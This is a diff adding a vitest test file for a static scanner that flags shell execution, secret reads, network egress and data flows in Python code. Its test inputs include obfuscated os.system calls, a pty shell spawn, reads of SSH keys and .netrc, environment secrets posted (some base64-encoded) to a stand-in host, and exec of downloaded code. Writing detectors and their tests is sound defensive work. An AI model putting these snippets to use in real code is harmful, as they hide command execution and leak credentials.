@@ -1,0 +1,210 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import type { Fact } from '../../../scanner/fact.ts';
+import { solveFlows } from '../../../scanner/flow.ts';
+import { analysePython } from '../../../scanner/frontends/python.ts';
+import type { Source } from '../../../scanner/source.ts';
+import { Steps, StepsUsedUp } from '../../../scanner/steps.ts';
+
+function analyse(
+  files: string | Readonly<Record<string, string>>,
+  steps = new Steps(),
+): { facts: readonly Fact[]; programs: readonly string[] } {
+  const texts = typeof files === 'string' ? { 'a.py': files } : files;
+  const sources = Object.entries(texts).map(
+    ([path, text]): Source => ({ path, file: path, language: 'python', text, context: 'code', depth: 0 }),
+  );
+  const { facts, graph, embedded } = analysePython(sources, { files: new Set(Object.keys(texts)), steps });
+  return {
+    facts: [...facts, ...(graph === undefined ? [] : solveFlows(graph, steps))],
+    programs: embedded.map((one) => `${one.language} ${one.text}`),
+  };
+}
+
+/** Capabilities, programs handed to the shell, and traits, as short lines. */
+function seen(files: string | Readonly<Record<string, string>>): string[] {
+  const { facts, programs } = analyse(files);
+  const lines = facts.flatMap((fact) => {
+    if (fact.kind === 'trait') return [`trait ${fact.trait}`];
+    if (fact.kind === 'flow') {
+      const to = fact.sink.capability?.kind === 'egress' ? ` ${fact.sink.capability.url}` : '';
+      return [`flow ${fact.source.what} ${fact.source.name} -> ${fact.sink.what}${to}${fact.encoded ? ' encoded' : ''}`];
+    }
+    if (fact.kind !== 'capability') return [];
+    const one = fact.capability;
+    if (one.kind === 'egress') return [`egress ${one.methods} ${one.url}`];
+    if (one.kind === 'mount') return [`${one.mode} ${one.path}`];
+    return [`${one.kind} ${one.kind === 'exec' ? one.program : one.name}`];
+  });
+  return [...lines, ...programs];
+}
+
+describe('os.system is seen however it is reached', () => {
+  it.each([
+    ['import os\nos.system("id")', 'shell id'],
+    ['import os as o\no.system("id")', 'shell id'],
+    ['from os import system as s\ns("id")', 'shell id'],
+    ['from os import *\nsystem("id")', 'shell id'],
+    ['import os\nrun = os.system\nrun("id")', 'shell id'],
+    ['import os\ngetattr(os, "sys" + "tem")("id")', 'shell id'],
+    ['import os\ngetattr(os, "metsys"[::-1])("id")', 'shell id'],
+    ['import os\ngetattr(os, "".join(["sys", "tem"]))("id")', 'shell id'],
+    ['import os\ngetattr(os, chr(115) + "ystem")("id")', 'shell id'],
+    ['import os\nx = "tem"\ngetattr(os, f"sys{x}")("id")', 'shell id'],
+    ['__import__("os").system("id")', 'shell id'],
+    ['import importlib\nimportlib.import_module("o" + "s").system("id")', 'shell id'],
+    ['import sys\nsys.modules["os"].system("id")', 'shell id'],
+    ['import os\nos.__dict__["system"]("id")', 'shell id'],
+    ['import os\nvars(os)["system"]("id")', 'shell id'],
+    ['import base64\n__import__(base64.b64decode("b3M=").decode()).system("id")', 'shell id'],
+    ['import codecs\n__import__(codecs.decode("bf", "rot13")).system("id")', 'shell id'],
+    ['𝓲𝓶𝓹𝓸𝓻𝓽 = 0\nimport os\n𝓸𝓼.system("id")', 'shell id'],
+    ['import os\nlist(map(os.system, ["id"]))', 'trait escape'],
+    ['import os\ngetattr(os, name)("id")', 'trait escape'],
+    ['__import__(name)', 'trait dynamic-import'],
+    ['globals()["ev" + "al"]("1 + 1")', 'python 1 + 1'],
+    ['__builtins__.__dict__["exec"]("x = 1")', 'python x = 1'],
+    ['import subprocess\nsubprocess.run(["ls", "-l"])', 'shell ls -l'],
+    ['import asyncio\nasyncio.create_subprocess_exec("ls", "-l")', 'shell ls -l'],
+    ['import os, pty\npty.spawn("/bin/sh")', 'shell /bin/sh'],
+    ['class A:\n    def go(self):\n        import os\n        os.system("id")', 'shell id'],
+  ])('%j', (code, expected) => {
+    expect(seen(code)).toContain(expected);
+  });
+});
+
+describe('what a module uses', () => {
+  it.each([
+    ['import os\nos.environ["A_KEY"]', 'env A_KEY'],
+    ['import os\nos.environ.get("A_" + "KEY")', 'env A_KEY'],
+    ['from os import getenv as g\ng("A_KEY")', 'env A_KEY'],
+    ['import os\nos.environ[name]', 'env *'],
+    ['import os\nprint(dict(os.environ))', 'env *'],
+    ['import requests\nrequests.get("https://a.example/x")', 'egress GET https://a.example/x'],
+    ['import requests as r\ns = r.Session()\ns.post("https://a.example/x")', 'egress POST https://a.example/x'],
+    ['import httpx\nwith httpx.Client() as c:\n    c.put("https://a.example/x")', 'egress PUT https://a.example/x'],
+    ['from urllib.request import urlopen\nurlopen("https://a.example/x", data=b"1")', 'egress GET https://a.example/x'],
+    ['import http.client\nhttp.client.HTTPSConnection("a.example")', 'egress * https://a.example/*'],
+    [
+      'import requests\nBASE = "https://a.example/v1"\ndef get(path):\n    return requests.get(f"{BASE}/{path}")',
+      'egress GET https://a.example/v1/*',
+    ],
+    ['import requests\ndef get(url):\n    requests.get(url)\nget("https://a.example/")', 'egress GET https://a.example/'],
+    ['import requests\nrequests.get(url)', 'egress GET https://*/*'],
+    ['import socket\ns = socket.socket()\ns.connect(("a.example", 99))', 'egress * tcp://a.example:99/*'],
+    ['open("/etc/hosts")', 'ro /etc/hosts'],
+    ['open("/reports/a.md", "w")', 'rw /reports/a.md'],
+    ['import os\nopen(os.path.join(os.path.expanduser("~"), ".netrc"))', 'ro ~/.netrc'],
+    ['from pathlib import Path\n(Path.home() / ".ssh" / "id_rsa").read_text()', 'ro ~/.ssh/id_rsa'],
+    ['from pathlib import Path\nPath(__file__).parent.joinpath("data.json").read_text()', 'ro /skills/@self/data.json'],
+    ['import shutil\nshutil.rmtree("/data")', 'rw /data'],
+  ])('%j', (code, expected) => {
+    expect(seen(code)).toContain(expected);
+  });
+});
+
+describe('what flows', () => {
+  it.each<[string, string | Record<string, string>, string]>([
+    [
+      'through a variable',
+      'import os, requests\nk = os.environ["K"]\nrequests.post("https://a.example/", data={"k": k})',
+      'flow env K -> network https://a.example/',
+    ],
+    [
+      'through an encoder',
+      'import os, base64, requests\nb = base64.b64encode(os.environ["K"].encode())\nrequests.post("https://a.example/", data=b)',
+      'flow env K -> network https://a.example/ encoded',
+    ],
+    [
+      'through a loop and a list',
+      'import os, requests\nfound = []\nfor n, v in os.environ.items():\n    found.append(v)\nrequests.post("https://a.example/", json=found)',
+      'flow whole-env * -> network https://a.example/',
+    ],
+    [
+      'through another file',
+      {
+        'a.py': 'import os\nfrom b import send\nsend(os.environ["K"])',
+        'b.py': 'import requests\ndef send(v):\n    requests.post("https://a.example/", data=v)\n',
+      },
+      'flow env K -> network https://a.example/',
+    ],
+    [
+      'through an object',
+      'import os, requests\nclass A:\n    def __init__(self):\n        self.k = os.environ["K"]\n    def go(self):\n        requests.post("https://a.example/", data=self.k)',
+      'flow env K -> network https://a.example/',
+    ],
+    [
+      'through a method of another file',
+      {
+        'a.py': 'import requests\nfrom b import Box\nbox = Box()\nrequests.post("https://a.example/", data=box.take())',
+        'b.py': 'class Box:\n    def take(self):\n        return open("/data/x").read()\n',
+      },
+      'flow file /data/x -> network https://a.example/',
+    ],
+    [
+      'into a program',
+      'import os, subprocess\nsubprocess.run(["curl", "-d", os.environ["K"], "https://a.example/"])',
+      'flow env K -> network https://a.example/',
+    ],
+    ['into code', 'import requests\nexec(requests.get("https://a.example/").text)', 'flow network https://a.example/ -> exec'],
+  ])('%s', (_, code, expected) => {
+    expect(seen(code)).toContain(expected);
+  });
+
+  it.each([
+    [
+      'a hash',
+      'import hashlib, os, requests\nrequests.get("https://a.example/" + hashlib.sha256(os.environ["K"].encode()).hexdigest())',
+    ],
+    ['a length', 'import os, requests\nrequests.get("https://a.example/", params={"n": len(os.environ["K"])})'],
+    ['another variable', 'import os, requests\nk = os.environ["K"]\nrequests.get("https://a.example/", params={"n": 1})'],
+  ])('%s carries nothing', (_, code) => {
+    expect(seen(code).filter((line) => line.startsWith('flow env'))).toEqual([]);
+  });
+});
+
+describe('what is honest stays quiet', () => {
+  it.each([
+    'model.eval()\ndf.query("a > 1")\ncursor.execute("select 1")',
+    'import re\nre.compile("x").match("x")',
+    'env = {}\nenv["A"] = 1\nvalue = env["A"]',
+    'class A:\n    def exec(self):\n        return 1\nA().exec()',
+    'import socket\nsocket.gethostname()',
+  ])('%j', (code) => {
+    expect(seen(code)).toEqual([]);
+  });
+});
+
+it('gives facts or gives up on any text, within its steps', () => {
+  const pieces = fc.constantFrom(
+    'def f(x):\n  ',
+    'return f(x)\n',
+    'x = x + x\n',
+    'import os\n',
+    'getattr(os, ',
+    '"a"',
+    '(',
+    ')',
+    '[',
+    ']',
+    'f"{',
+    '}"',
+    'lambda: ',
+    'class A:\n  ',
+    'self.x = ',
+    '\n',
+    'for x in x:\n  ',
+    '**',
+    ' = ',
+  );
+  fc.assert(
+    fc.property(fc.array(pieces, { maxLength: 40 }), (parts) => {
+      try {
+        analyse(parts.join(''), new Steps(100_000));
+      } catch (cause) {
+        expect(cause).toBeInstanceOf(StepsUsedUp);
+      }
+    }),
+    { numRuns: 200 },
+  );
+});
